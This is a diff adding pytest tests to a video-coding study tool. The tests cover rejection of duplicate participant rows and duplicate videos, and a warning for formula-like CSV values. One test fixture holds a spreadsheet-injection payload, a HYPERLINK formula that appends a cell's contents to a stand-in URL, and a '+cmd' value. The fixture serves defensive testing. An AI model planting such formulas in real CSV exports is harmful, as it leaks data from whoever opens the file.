@@ -242,3 +242,77 @@ def test_an_os_error_no_command_named_is_one_line(
     monkeypatch.setattr(reliability, "run", fail)
     status, _out, err = run(capsys, "reliability", tmp_path)
     assert status == 2 and err.startswith(f"coder: {tmp_path / 'x'}: File exists")
+
+
+def _new_study(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> Path:
+    study = tmp_path / "study"
+    assert run(capsys, "init", study, "--scheme", "ssp")[0] == 0
+    return study
+
+
+def test_add_sessions_refuses_two_participant_rows_for_one_video(
+    capsys: pytest.CaptureFixture[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("CODER_SKIP_PROBE", "1")
+    study = _new_study(capsys, tmp_path)
+    video = tmp_path / "P1_t0.mp4"
+    video.write_bytes(b"one")
+    participants = tmp_path / "participants.csv"
+    participants.write_text("video,participant,arm,timepoint\nP1_t0.mp4,P1,A,t0\n"
+                            "P2_t0.mp4,P2,B,t0\nP1_t0.mp4,P1,B,t0\n")
+    status, _out, err = run(capsys, "add-sessions", study, video, "--key", participants)
+    assert status == 2
+    assert err.strip() == (f"coder: {participants}: lines 2 and 4 both describe video "
+                           "'P1_t0.mp4' (keep one row per video)")
+    assert Project.open(study).sessions == []
+
+
+def test_add_sessions_refuses_a_video_the_project_has_unless_asked(
+    capsys: pytest.CaptureFixture[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("CODER_SKIP_PROBE", "1")
+    study = _new_study(capsys, tmp_path)
+    video = tmp_path / "a.mp4"
+    video.write_bytes(b"same bytes")
+    copy = tmp_path / "copy-of-a.mp4"
+    copy.write_bytes(b"same bytes")
+    status, out, _err = run(capsys, "add-sessions", study, video)
+    assert status == 0
+    code = out.split("\t")[0]
+    status, _out, err = run(capsys, "add-sessions", study, video)
+    assert status == 2
+    assert f"coder: {video}: is the same file as the video of session {code}; nothing was added" in err
+    assert "--allow-duplicate-video" in err
+    status, _out, err = run(capsys, "add-sessions", study, copy)
+    assert status == 2 and f"is the same content as the video of session {code}" in err
+    # Given twice in one call: refused before anything is added.
+    other = tmp_path / "b.mp4"
+    other.write_bytes(b"other bytes")
+    status, _out, err = run(capsys, "add-sessions", study, other, other)
+    assert status == 2 and f"is the same file as the video of '{other}' given before it" in err
+    assert len(Project.open(study).sessions) == 1
+    status, _out, _err = run(capsys, "add-sessions", study, copy, "--allow-duplicate-video")
+    assert status == 0 and len(Project.open(study).sessions) == 2
+
+
+def test_add_sessions_warns_about_formula_like_key_values_and_keeps_them(
+    capsys: pytest.CaptureFixture[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("CODER_SKIP_PROBE", "1")
+    study = _new_study(capsys, tmp_path)
+    video = tmp_path / "v.mp4"
+    video.write_bytes(b"v")
+    participants = tmp_path / "participants.csv"
+    participants.write_text('video,participant,arm,timepoint\nv.mp4,"=HYPERLINK(""http://x""&A1)",'
+                            "+cmd,-2\n")
+    status, _out, err = run(capsys, "add-sessions", study, video, "--key", participants)
+    assert status == 0
+    warnings = [line for line in err.splitlines() if line.startswith("warning:")]
+    assert len(warnings) == 2
+    assert warnings[0].startswith(
+        f"warning: {participants}: column 'participant': '=HYPERLINK(\"http://x\"&A1)' begins "
+        "with =, +, - or @: a spreadsheet program opening a CSV file may run it as a formula"
+    )
+    assert "column 'arm': '+cmd'" in warnings[1]
+    (row,) = Project.open(study).key()
+    assert row["participant"] == '=HYPERLINK("http://x"&A1)' and row["arm"] == "+cmd"
